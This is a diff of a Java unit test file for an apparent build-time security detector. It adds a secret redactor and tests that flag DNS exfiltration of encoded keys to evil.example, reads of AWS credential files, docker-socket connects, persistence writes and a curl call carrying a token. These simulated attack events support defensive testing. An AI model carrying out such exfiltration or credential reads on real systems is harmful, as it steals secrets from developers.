@@ -29,14 +29,14 @@ class DetectorTest {
 
     @Test
     void aDecoyIsRecognisedWhateverTheEncoding() {
-        Detector detector = new Detector(Map.of("AWS_SECRET_ACCESS_KEY", DECOY), Set.of());
+        Detector detector = new Detector(Map.of("AWS_SECRET_ACCESS_KEY", DECOY), Redactor.shapesOnly(), Set.of());
         byte[] loot = (DECOY + ";").getBytes(StandardCharsets.UTF_8);
         String base64 = Base64.getUrlEncoder().withoutPadding().encodeToString(loot);
         String hex = HexFormat.of().formatHex(loot);
         String base32 = base32(loot).toLowerCase(Locale.ROOT);
         for (String label : List.of(base64.substring(0, 30) + "." + base64.substring(30), hex.substring(0, 60) + "."
                 + hex.substring(60), base32.substring(0, 40) + "." + base32.substring(40))) {
-            Finding finding = new Detector(Map.of("AWS_SECRET_ACCESS_KEY", DECOY), Set.of())
+            Finding finding = new Detector(Map.of("AWS_SECRET_ACCESS_KEY", DECOY), Redactor.shapesOnly(), Set.of())
                     .judge(dns(label + ".evil.example")).orElseThrow();
             assertThat(finding.id()).as(label).isEqualTo("dns-exfiltration");
             assertThat(finding.attributes()).containsEntry("secrets", "AWS_SECRET_ACCESS_KEY");
@@ -50,7 +50,7 @@ class DetectorTest {
 
     @Test
     void encodedLookingNamesAndManySubdomainsAreFlaggedEvenWithoutADecoy() {
-        Detector detector = new Detector(Map.of(), Set.of());
+        Detector detector = new Detector(Map.of(), Redactor.shapesOnly(), Set.of());
         assertThat(judge(detector, dns("k3j4h5g6f7d8s9a0q1w2e3r4t5y6u7i8o9p0z1x2c3v4b5n6m7l8k9j0h.x.example")))
                 .get().extracting(Finding::id).isEqualTo("dns-encoded-query");
         assertThat(judge(detector, dns("crates.io"))).get().extracting(Finding::id).isEqualTo("egress-attempt");
@@ -63,7 +63,7 @@ class DetectorTest {
 
     @Test
     void repeatsOfOneAlertAreRaisedOnce() {
-        Detector detector = new Detector(Map.of(), Set.of());
+        Detector detector = new Detector(Map.of(), Redactor.shapesOnly(), Set.of());
         assertThat(judge(detector, dns("crates.io"))).isPresent();
         assertThat(judge(detector, dns("crates.io"))).isEmpty();
         assertThat(judge(detector, dns("static.crates.io"))).isPresent();
@@ -71,7 +71,7 @@ class DetectorTest {
 
     @Test
     void trustedToolsAndLoopbackAreQuiet() {
-        Detector detector = new Detector(Map.of(), Set.of("/usr/bin/cc"));
+        Detector detector = new Detector(Map.of(), Redactor.shapesOnly(), Set.of("/usr/bin/cc"));
         Actor cargo = new Actor(Actor.Role.CARGO, null, "cargo", List.of());
         assertThat(judge(detector, new BuildEvent(1, BuildEvent.Kind.EXEC, 1, cargo, "/usr/bin/curl", "curl x", null)))
                 .isEmpty();
@@ -88,12 +88,12 @@ class DetectorTest {
     @Test
     void aProcMacroIsBlamedWhenItIsTheOnlyOneLoaded() {
         Actor macro = new Actor(Actor.Role.PROC_MACRO, "app", "rustc", List.of("url-parse"));
-        Finding finding = new Detector(Map.of(), Set.of()).judge(new BuildEvent(1, BuildEvent.Kind.DNS, 7, macro,
+        Finding finding = new Detector(Map.of(), Redactor.shapesOnly(), Set.of()).judge(new BuildEvent(1, BuildEvent.Kind.DNS, 7, macro,
                 "x.evil.example", "A", null)).orElseThrow();
         assertThat(finding.crate()).isEqualTo("url-parse");
         assertThat(finding.message()).startsWith("proc macro url-parse (compiling app) tried to resolve");
         Actor two = new Actor(Actor.Role.PROC_MACRO, "app", "rustc", List.of("a", "b"));
-        assertThat(new Detector(Map.of(), Set.of()).judge(new BuildEvent(1, BuildEvent.Kind.DNS, 7, two,
+        assertThat(new Detector(Map.of(), Redactor.shapesOnly(), Set.of()).judge(new BuildEvent(1, BuildEvent.Kind.DNS, 7, two,
                 "x.evil.example", "A", null)).orElseThrow().crate()).isEqualTo("app");
     }
 
@@ -114,5 +114,55 @@ class DetectorTest {
             out.append(alphabet.charAt(buffer << (5 - bits) & 31));
         }
         return out.toString();
+    }
+
+    private static BuildEvent event(BuildEvent.Kind kind, Actor actor, String target, String detail, String error) {
+        return new BuildEvent(1, kind, 42, actor, target, detail, error);
+    }
+
+    @Test
+    void escapeAndPersistenceAttemptsAreHighAndCriticalAfterASecretRead() {
+        Detector detector = new Detector(Map.of(), Redactor.shapesOnly(), Set.of());
+        assertThat(detector.judge(event(BuildEvent.Kind.PERSISTENCE, SCRIPT, "/root/.cargo/bin/cargo",
+                "tried to write", "EROFS"))).get().satisfies(f -> {
+                    assertThat(f.id()).isEqualTo("persistence-attempt");
+                    assertThat(f.severity()).isEqualTo(dev.warden.core.Severity.HIGH);
+                    assertThat(f.crate()).isEqualTo("url-parse");
+                });
+        assertThat(detector.judge(event(BuildEvent.Kind.PRIVILEGED, SCRIPT, "mount", "denied", "SIGSYS")))
+                .get().extracting(Finding::id).isEqualTo("privileged-syscall");
+        assertThat(detector.judge(event(BuildEvent.Kind.CONNECT, SCRIPT, "unix:/var/run/docker.sock", "unix", null)))
+                .get().extracting(Finding::id, Finding::severity)
+                .containsExactly("unix-socket-connect", dev.warden.core.Severity.HIGH);
+        // The same crate now opens a credential: that is the second half of an attack, critical.
+        assertThat(detector.judge(event(BuildEvent.Kind.FILE, SCRIPT, "/root/.aws/credentials", "open", null)))
+                .get().satisfies(f -> {
+                    assertThat(f.id()).isEqualTo("secret-file-access");
+                    assertThat(f.severity()).isEqualTo(dev.warden.core.Severity.CRITICAL);
+                    assertThat(f.message()).contains("after it");
+                });
+        Actor other = new Actor(Actor.Role.BUILD_SCRIPT, "serde", "build-script-build", List.of());
+        assertThat(detector.judge(event(BuildEvent.Kind.OUTLIVED, other, "sleep", "", null))).get()
+                .extracting(Finding::severity).as("another crate's attempt stays high")
+                .isEqualTo(dev.warden.core.Severity.HIGH);
+    }
+
+    @Test
+    void aRealSecretLeavingIsCriticalAndNeverShown() {
+        String real = "ghp_R3alT0kenValue0123456789abcdefABCDEF";
+        Redactor redactor = new Redactor(Map.of("$GITHUB_TOKEN", real), Set.of(DECOY));
+        Detector detector = new Detector(Map.of("AWS_SECRET_ACCESS_KEY", DECOY), redactor, Set.of());
+        String hex = HexFormat.of().formatHex(real.getBytes(StandardCharsets.UTF_8));
+        Finding finding = detector.judge(dns(hex.substring(0, 60) + "." + hex.substring(60) + ".evil.example"))
+                .orElseThrow();
+        assertThat(finding.id()).isEqualTo("dns-exfiltration");
+        assertThat(finding.message()).contains("the real value of $GITHUB_TOKEN", "evil.example")
+                .doesNotContain(hex.substring(0, 20), real);
+        assertThat(finding.attributes().toString()).doesNotContain(hex.substring(0, 20));
+        assertThat(finding.evidence().toString()).doesNotContain(hex.substring(0, 20));
+        Actor curl = new Actor(Actor.Role.BUILD_SCRIPT, "url-parse", "curl", List.of());
+        Finding ran = detector.judge(event(BuildEvent.Kind.EXEC, curl, "/usr/bin/curl",
+                "-H Authorization: token " + real + " https://x", null)).orElseThrow();
+        assertThat(ran.message()).doesNotContain(real).contains("ghp_…(40 chars, matches $GITHUB_TOKEN)");
     }
 }
